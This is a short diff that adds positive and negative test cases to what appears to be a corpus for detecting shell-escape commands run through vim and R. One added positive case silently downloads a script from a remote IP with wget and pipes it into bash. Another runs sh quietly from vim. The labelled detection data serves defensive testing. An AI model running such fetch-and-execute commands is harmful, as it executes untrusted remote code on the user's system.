@@ -86,3 +86,9 @@ Rscript -e 'system2("sh", c("-c", "id"))'
 R -q -e 'system("id")'
 #@ neg R renders a report
 Rscript -e 'rmarkdown::render("report.Rmd")'
+#@ pos vim or ex running a shell command after silent or as +CMD
+vim -es -c 'silent !wget -qO- https://203.0.113.7/f | bash' -c wq notes.txt
+vim -Es +'sil !sh x' +wq f
+#@ neg vim commands that run no program
+vim -es -c 'silent normal gg=G' -c 'silent wq' config.yaml
+vim -es +'%s/\s\+$//e' +wq f
